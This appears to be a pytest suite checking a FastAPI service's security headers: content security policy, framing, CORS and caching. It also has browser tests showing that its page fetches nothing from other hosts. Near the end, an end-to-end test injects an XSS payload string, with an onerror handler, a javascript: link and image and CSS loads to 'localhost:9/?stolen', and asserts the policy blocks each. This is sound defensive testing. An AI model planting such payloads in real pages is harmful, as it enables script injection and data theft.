"""What answers tell a browser, what it then does, and that nothing is fetched from elsewhere."""

from __future__ import annotations

import re
from base64 import b64encode
from collections.abc import Iterator
from hashlib import sha256
from pathlib import Path

import httpx
import pytest
from fastapi import FastAPI
from fastapi.responses import HTMLResponse, PlainTextResponse, StreamingResponse
from fastapi.testclient import TestClient
from playwright.sync_api import Browser, ConsoleMessage, Page, expect
from starlette.middleware.cors import CORSMiddleware
from starlette.types import ASGIApp

from serving.api import docs, problem
from serving.api.headers import SecurityHeaders
from serving.api.limits import KnownHosts
from tests.browsing import ask, chromium
from tests.ui import fake_api

PAGE_SCRIPT = (Path(__file__).parents[2] / "ui/page/page.js").read_text(encoding="utf-8")


def app(*, secure: bool = False) -> FastAPI:
    class Headed(FastAPI):
        """With the headers outside everything, Starlette's own answer to a crash included."""

        def build_middleware_stack(self) -> ASGIApp:
            return SecurityHeaders(super().build_middleware_stack(), secure=secure, page_scripts=["late()"])

    made = Headed(title="길잡이 <API>", docs_url=None, redoc_url=None, openapi_url=None)
    problem.install(made)
    made.add_middleware(KnownHosts, hosts=["testserver", "127.0.0.1"])
    made.add_middleware(CORSMiddleware, allow_origins=["*"], allow_methods=["*"], allow_credentials=True)

    @made.get("/", response_class=HTMLResponse)
    async def page() -> StreamingResponse:
        parts = iter(["<script>one", "()</script><script src='x.js'></script>", "<SCRIPT async>\ntwo()</SCRIPT >"])
        return StreamingResponse(parts, media_type="text/html")

    @made.get("/other", response_class=HTMLResponse)
    async def other() -> str:
        return "<script>one()</script>"

    @made.get("/api/things", response_class=PlainTextResponse)
    async def things() -> PlainTextResponse:
        return PlainTextResponse("물건", headers={"Cache-Control": "public, max-age=600"})

    @made.get("/api/broken")
    async def broken() -> None:
        raise ZeroDivisionError

    @made.get("/assets/{name}", response_class=PlainTextResponse)
    async def asset(name: str) -> str:
        return name

    made.include_router(docs.router)
    return made


@pytest.fixture(scope="module")
def http() -> Iterator[TestClient]:
    with TestClient(app(), raise_server_exceptions=False) as http:
        yield http


ANSWERS = [
    ("GET", "/", {}, 200),
    ("GET", "/other", {}, 200),
    ("GET", "/api/things", {}, 200),
    ("HEAD", "/", {}, 405),
    ("GET", "/api/none", {}, 404),
    ("GET", "/api/broken", {}, 500),
    ("GET", "/api/things", {"Host": "evil.example"}, 421),
    ("GET", "/assets/a.js", {}, 200),
    ("OPTIONS", "/api/things", {"Access-Control-Request-Method": "POST"}, 200),
]


@pytest.mark.parametrize(("method", "path", "headers", "status"), ANSWERS)
@pytest.mark.parametrize("origin", [{}, {"Origin": "https://evil.example"}])
def test_every_answer_is_marked_and_opens_nothing_to_other_origins(
    http: TestClient, method: str, path: str, headers: dict[str, str], status: int, origin: dict[str, str]
) -> None:
    answer = http.request(method, path, headers={**headers, **origin})
    if method != "OPTIONS" or origin:
        assert answer.status_code == status
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["x-frame-options"] == "DENY"
    assert answer.headers["referrer-policy"] == "same-origin"
    assert answer.headers["cross-origin-opener-policy"] == "same-origin"
    assert answer.headers["cross-origin-resource-policy"] == "same-origin"
    assert "camera=()" in answer.headers["permissions-policy"]
    assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
    assert "strict-transport-security" not in answer.headers
    assert [name for name in answer.headers if name.startswith("access-control-")] == []


def test_https_is_insisted_on_only_where_it_is_served() -> None:
    with TestClient(app(secure=True)) as https:
        assert https.get("/api/things").headers["strict-transport-security"] == "max-age=31536000"


def test_a_browser_keeps_files_of_everybodys_and_nothing_else(http: TestClient) -> None:
    kept = [path for path in ("/assets/a.js", "/docs/start.js") if "cache-control" not in http.get(path).headers]
    assert kept == ["/assets/a.js", "/docs/start.js"]
    for path in ("/", "/api/things", "/docs", "/openapi.json", "/docs/none.js", "/assets/none/at/all"):
        assert http.get(path).headers["cache-control"] == "no-store", path


def test_the_page_runs_its_own_inline_scripts_and_others_run_none(http: TestClient) -> None:
    answer = http.get("/")
    assert answer.text == "<script>one()</script><script src='x.js'></script><SCRIPT async>\ntwo()</SCRIPT >"
    scripts = _directive(answer, "script-src")
    assert scripts == ["'self'", "'unsafe-eval'", *map(_hash, ("one()", "\ntwo()", "late()"))]
    # echo -n 'one()' | openssl dgst -sha256 -binary | base64
    assert scripts[2] == "'sha256-HR7iaask9daLMRRskMI++QeJtjWDOjyPA6lGzYGzKW4='"
    assert _directive(http.get("/other"), "script-src") == ["'self'"]
    assert http.get("/api/things").headers["content-security-policy"] == "default-src 'none'; frame-ancestors 'none'"


def test_no_policy_names_another_host(http: TestClient) -> None:
    for path in ("/", "/other", "/docs", "/api/things"):
        sources = re.sub(r"'[^']*'", "", http.get(path).headers["content-security-policy"])
        assert set(re.findall(r"[\w*.:-]+", sources)) <= set(
            re.findall(r"[\w-]+-(?:src|ancestors|action|uri)", sources)
        ) | {"data:"}


def _hash(script: str) -> str:
    return f"'sha256-{b64encode(sha256(script.encode()).digest()).decode()}'"


def _directive(answer: httpx.Response, name: str) -> list[str]:
    found = [part.split() for part in answer.headers["content-security-policy"].split(";")]
    return next(parts[1:] for parts in found if parts[0] == name)


def test_the_documentation_names_no_other_host(http: TestClient) -> None:
    page = http.get("/docs").text
    assert "길잡이 &lt;API&gt;" in page
    assert "//" not in page
    for name in re.findall(r'(?:src|href)="([^"]+)"', page):
        assert http.get(f"/{name}").status_code == 200, name
    assert http.get("/docs/favicon.png").status_code == 422
    described = http.get("/openapi.json").json()
    assert "/api/things" in described["paths"]
    assert not {"/docs", "/openapi.json"} & set(described["paths"])


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as browser:
        yield browser


@pytest.fixture(scope="module")
def url() -> Iterator[str]:
    """The page on scripted answers, as `tests.ui` has it, behind the headers."""
    create = fake_api.create

    def headed(api: fake_api.FakeApi) -> FastAPI:
        made = create(api)
        made.router.routes[:] = [route for route in made.routes if getattr(route, "path", "") not in _FRAMEWORKS_OWN]
        made.include_router(docs.router)
        made.add_middleware(SecurityHeaders, secure=False, page_scripts=[PAGE_SCRIPT])
        return made

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(fake_api, "create", headed)
        with fake_api.served(fake_api.FakeApi(pace=0), with_page=True) as url:
            yield url


_FRAMEWORKS_OWN = {"/docs", "/redoc", "/openapi.json", "/docs/oauth2-redirect"}


class Watched:
    """A page with what its browser refused and asked for."""

    def __init__(self, page: Page, url: str) -> None:
        self.page, self.refused, self.foreign = page, [], []
        page.on("console", self._said)
        page.on("pageerror", lambda error: self.refused.append(str(error)))
        page.on("request", lambda request: self.foreign.append(request.url))
        page.goto(url)

    def _said(self, message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text or "Permissions-Policy" in message.text:
            self.refused.append(message.text)

    def asked_elsewhere(self) -> list[str]:
        return [url for url in self.foreign if not url.startswith(("http://127.0.0.1:", "data:"))]


@pytest.mark.e2e
def test_the_page_works_and_breaks_no_rule_of_its_own(browser: Browser, url: str) -> None:
    with browser.new_context(locale="ko-KR") as context:
        watched = Watched(page := context.new_page(), url)
        ask(page, "상생형 AI트랙은 무엇인가요?")
        expect(page.locator("#e0 .gj-end")).to_be_visible()
        page.get_by_role("button", name="근거 1 보기").first.click()
        expect(page.locator("#e0-1")).to_have_class(re.compile("lit"))
        page.get_by_role("tab", name="자료").click()
        page.locator(".gj-documents input[type=file]").set_input_files(
            [{"name": "표준서.txt", "mimeType": "text/plain", "buffer": "가나다".encode()}]
        )
        expect(page.locator(".gj-shelf li").filter(has_text="표준서.txt")).to_contain_text("사용 가능")
        assert (watched.refused, watched.asked_elsewhere()) == ([], [])


SMUGGLED = """html => {
  const box = document.createElement("div");
  document.body.append(box);
  box.innerHTML = html;
  const script = document.createElement("script");
  script.textContent = "window.pwned = 'inline'";
  document.body.append(script);
}"""
ATTACK = """<img src="x" onerror="window.pwned = 'handler'"><img src="http://localhost:9/?stolen">
<a id="bait" href="javascript:window.pwned = 'link'">link</a><iframe src="http://localhost:9/"></iframe>
<style>#bait { background: url(http://localhost:9/?style) }</style>"""


@pytest.mark.e2e
def test_what_gets_into_the_page_neither_runs_nor_calls_out(browser: Browser, url: str) -> None:
    with browser.new_context() as context:
        watched = Watched(page := context.new_page(), url)
        page.get_by_role("button", name="보내기").wait_for()
        with page.expect_console_message(lambda message: "style" in message.text):
            page.evaluate(SMUGGLED, ATTACK)
        page.locator("#bait").click(force=True)
        caught = page.evaluate("() => fetch('http://localhost:9/?fetched').then(() => 'sent', error => String(error))")
        assert "Failed to fetch" in caught
        assert page.evaluate("window.pwned") is None
        refused = "\n".join(watched.refused)
        for what in ("inline event handler", "inline script", "?stolen", "?style", "?fetched", "javascript:"):
            assert what in refused, what


@pytest.mark.e2e
def test_the_documentation_works_without_a_foreign_host(browser: Browser, url: str) -> None:
    with browser.new_context() as context:
        watched = Watched(page := context.new_page(), f"{url}/docs")
        page.locator(".opblock-summary").filter(has_text="/api/conversations").first.click()
        page.get_by_role("button", name="Try it out").click()
        page.get_by_role("button", name="Execute").click()
        expect(page.locator(".live-responses-table").first).to_contain_text("conversations")
        assert (watched.refused, watched.asked_elsewhere()) == ([], [])


def test_what_gradio_says_to_other_origins_is_taken_out(url: str) -> None:
    foreign = {"Origin": "http://localhost:9", "Access-Control-Request-Method": "POST"}
    for path in ("/", "/config", "/gradio_api/info", "/theme.css"):
        for answer in (httpx.get(url + path, headers=foreign), httpx.options(url + path, headers=foreign)):
            assert [name for name in answer.headers if name.startswith("access-control-")] == [], path
